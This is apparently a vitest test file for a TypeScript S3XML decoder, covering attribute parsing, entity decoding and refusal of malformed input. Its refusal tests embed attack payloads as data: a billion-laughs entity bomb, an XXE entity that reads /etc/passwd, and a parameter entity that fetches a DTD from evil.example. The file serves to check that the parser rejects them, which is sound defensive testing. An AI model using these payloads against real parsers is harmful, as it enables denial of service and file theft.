import { describe, expect, it } from 'vitest';
import { decodeS3Xml } from './decode-s3xml.js';
import { S3XmlError } from './s3xml-error.js';

const DECL = '<?xml version="1.0" encoding="utf-8"?>\n';

function refusal(text: string): S3XmlError {
  try {
    decodeS3Xml(text);
  } catch (error) {
    if (error instanceof S3XmlError) return error;
    throw error;
  }
  throw new Error('document was accepted');
}

describe('decodeS3Xml: model', () => {
  it('keeps attributes raw, never coerced, and one resource is still a list', () => {
    const doc = decodeS3Xml(`${DECL}<s3xml results="007" success="true"><resource name="t" uuid="u" mci="01" deleted="False" x="1e3"><data field="n">007</data></resource></s3xml>`);
    expect(doc.attributes).toEqual({ results: '007', success: 'true' });
    expect(doc.resources).toHaveLength(1);
    expect(doc.resources[0]?.attributes).toEqual({ uuid: 'u', mci: '01', deleted: 'False', x: '1e3' });
    expect(doc.resources[0]?.data[0]?.text).toBe('007');
  });

  it('decodes predefined entities and numeric character references in text and attributes', () => {
    const doc = decodeS3Xml(`<s3xml a="&quot;q&quot; &amp; &lt;&gt;&apos;&#10;"><resource name="t"><data field="p" value="&quot;+1&quot;">&#8206;+1 &amp; &#x1F600; &lt;b&gt;</data><reference field="r" uuid="u">A &amp; B&#x2014;</reference></resource></s3xml>`);
    expect(doc.attributes['a']).toBe('"q" & <>\'\n');
    expect(doc.resources[0]?.data[0]).toEqual({ field: 'p', value: '"+1"', text: '\u200E+1 & \u{1F600} <b>', attributes: {} });
    expect(doc.resources[0]?.references[0]?.text).toBe('A & B\u2014');
  });

  it('preserves whitespace inside text as sent', () => {
    const doc = decodeS3Xml(`<s3xml>\n  <resource name="t">\n    <data field="a">  two  spaces\n\ttab </data>\n    <data field="b"> </data>\n  </resource>\n</s3xml>`);
    expect(doc.resources[0]?.data.map((d) => d.text)).toEqual(['  two  spaces\n\ttab ', ' ']);
  });

  it('gives null text for empty elements and keeps value apart from text', () => {
    const doc = decodeS3Xml('<s3xml><resource name="t"><data field="a"/><data field="b"></data><data field="c" value="5"/><data field="d" value="">x</data></resource></s3xml>');
    expect(doc.resources[0]?.data.map((d) => [d.field, d.value, d.text])).toEqual([
      ['a', null, null], ['b', null, null], ['c', '5', null], ['d', '', 'x'],
    ]);
  });

  it('keeps CDATA verbatim and drops comments inside data', () => {
    const doc = decodeS3Xml('<s3xml><resource name="t"><data field="a">x<![CDATA[<&amp;>]]><!-- c -->y</data></resource></s3xml>');
    expect(doc.resources[0]?.data[0]?.text).toBe('x<&amp;>y');
  });

  it('reads the list:reference JSON-array uuid form raw', () => {
    const doc = decodeS3Xml('<s3xml><resource name="t"><reference field="l" resource="x" uuid="[&quot;urn:uuid:a&quot;, &quot;urn:uuid:b&quot;]">A, B</reference></resource></s3xml>');
    expect(doc.resources[0]?.references[0]?.uuid).toBe('["urn:uuid:a", "urn:uuid:b"]');
  });

  it('reads tuid references, extra attributes and an inline resource', () => {
    const doc = decodeS3Xml('<s3xml><resource name="org_office"><reference field="location_id" resource="gis_location" tuid="L1" lat="52.5200" lon="13.4050">Berlin<resource name="gis_location"><data field="name">Berlin</data></resource></reference></resource></s3xml>');
    const ref = doc.resources[0]?.references[0];
    expect(ref).toMatchObject({ field: 'location_id', resource: 'gis_location', uuid: null, tuid: 'L1', text: 'Berlin', attributes: { lat: '52.5200', lon: '13.4050' } });
    expect(ref?.inline?.name).toBe('gis_location');
    expect(ref?.inline?.data[0]?.text).toBe('Berlin');
  });

  it('keeps dependency records and duplicate uuids as separate resources, in order', () => {
    const doc = decodeS3Xml('<s3xml><resource name="a" uuid="u1"/><resource name="a" uuid="u1"><data field="n">2</data></resource><resource name="b" uuid="u2"/></s3xml>');
    expect(doc.resources.map((r) => [r.name, r.attributes['uuid'], r.data.length])).toEqual([['a', 'u1', 0], ['a', 'u1', 1], ['b', 'u2', 0]]);
  });

  it('ignores unknown elements (and their text) without losing known ones', () => {
    const doc = decodeS3Xml('<s3xml><meta a="1"><resource name="hidden"/></meta><resource name="t"><extra>e</extra><data field="a">x<b>bold</b>y</data><constructor/><toString>z</toString></resource><!-- c --><?pi x?></s3xml>');
    expect(doc.resources).toHaveLength(1);
    expect(doc.resources[0]).toEqual({ name: 't', attributes: {}, data: [{ field: 'a', value: null, text: 'xy', attributes: {} }], references: [], components: [] });
  });

  it('keeps attribute names that are Object.prototype members', () => {
    const doc = decodeS3Xml('<s3xml><resource name="t" toString="1" constructor="2" __proto__="3"/></s3xml>');
    expect(Object.entries(doc.resources[0]?.attributes ?? {})).toEqual([['toString', '1'], ['constructor', '2'], ['__proto__', '3']]);
  });

  it('normalises CRLF line ends and skips a byte order mark', () => {
    const doc = decodeS3Xml('\uFEFF<s3xml>\r\n<resource name="t"><data field="a">1\r\n2&#13;</data></resource></s3xml>');
    expect(doc.resources[0]?.data[0]?.text).toBe('1\n2\r');
  });

  it('handles a 50 MB text node', () => {
    const big = 'x'.repeat(50e6);
    const doc = decodeS3Xml(`<s3xml><resource name="t"><data field="blob">${big}</data></resource></s3xml>`);
    expect(doc.resources[0]?.data[0]?.text?.length).toBe(50e6);
  });
});

describe('decodeS3Xml: refusals', () => {
  it.each([
    ['empty', ''],
    ['empty', ' \n\t '],
    ['doctype', '<?xml version="1.0"?><!DOCTYPE s3xml><s3xml/>'],
    ['doctype', '<!doctype s3xml><s3xml/>'],
    ['entity', '<s3xml><!ENTITY x "y"></s3xml>'],
    ['entity', '<s3xml><resource name="t"><data field="a">&nbsp;</data></resource></s3xml>'],
    ['entity', '<s3xml><resource name="t"><data field="a">AT&T</data></resource></s3xml>'],
    ['entity', '<s3xml a="&x;"/>'],
    ['invalid-char', '<s3xml><resource name="t"><data field="a">bell\u0007</data></resource></s3xml>'],
    ['invalid-char', '<s3xml><resource name="t"><data field="a">&#1;</data></resource></s3xml>'],
    ['invalid-char', '<s3xml a="&#xFFFE;"/>'],
    ['not-s3xml', '<?xml version="1.0"?>\n<foo><bar/></foo>'],
    ['not-s3xml', '<data><resource name="org_organisation"/></data>'],
    ['not-s3xml', '<S3XML/>'],
    ['malformed', 'this is not xml'],
    ['malformed', '<s3xml><resource name="t"></data></s3xml>'],
    ['malformed', '<s3xml/><s3xml/>'],
    ['malformed', '<s3xml/>trailing'],
    ['malformed', '<s3xml><resource name="t" uuid></resource></s3xml>'],
    ['malformed', '<s3xml><resource name="a"uuid="b"/></s3xml>'],
    ['malformed', '<s3xml><resource name="a<b"/></s3xml>'],
    ['malformed', '<s3xml><resource name="t"><data field="a">1 < 2</data></resource></s3xml>'],
    ['malformed', '<s3xml/><?xml version="1.0"?>'],
    ['truncated', '<?xml version="1.0"?>\n<s3xml><resource name="org_organisation" uuid="x"><data field="name">Broken</data></s3xml'],
    ['truncated', '<?xml version="1.0"?>'],
    ['truncated', '<s3xml><resource name="t"><data field="a">cut'],
    ['truncated', '<s3xml><!-- cut'],
    ['truncated', '<s3xml><resource name="t" uuid="cut'],
  ])('%s: %j', (code, text) => {
    const error = refusal(text);
    expect(error.code).toBe(code);
    expect(error.message.length).toBeGreaterThan(20);
  });

  it('refuses a billion-laughs entity bomb before parsing', () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i < 10; i += 1) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const error = refusal(`<?xml version="1.0"?><!DOCTYPE s3xml [${lol.join('')}]><s3xml a="&lol9;"><resource name="t"><data field="a">&lol9;</data></resource></s3xml>`);
    expect(error.code).toBe('doctype');
    expect(error.message.length).toBeLessThan(300);
  });

  it('refuses external and parameter entities', () => {
    expect(refusal('<!DOCTYPE s3xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><s3xml><resource name="t"><data field="a">&xxe;</data></resource></s3xml>').code).toBe('doctype');
    expect(refusal('<!DOCTYPE s3xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><s3xml/>').code).toBe('doctype');
    expect(refusal('<s3xml><resource name="t"><data field="a">&xxe;</data></resource></s3xml>').code).toBe('entity');
  });

  it('messages are short and point at the problem, never dumping the input', () => {
    const huge = `<s3xml><resource name="t"><data field="a">${'y'.repeat(100_000)}</data></resourc></s3xml>`;
    const error = refusal(huge);
    expect(error.code).toBe('malformed');
    expect(error.message).toMatch(/line 1, column \d+/);
    expect(error.message.length).toBeLessThan(300);
    expect(refusal('<s3xml>\n<resource name="t">\n<a></b>').message).toContain('line 3, column 4');
  });
});
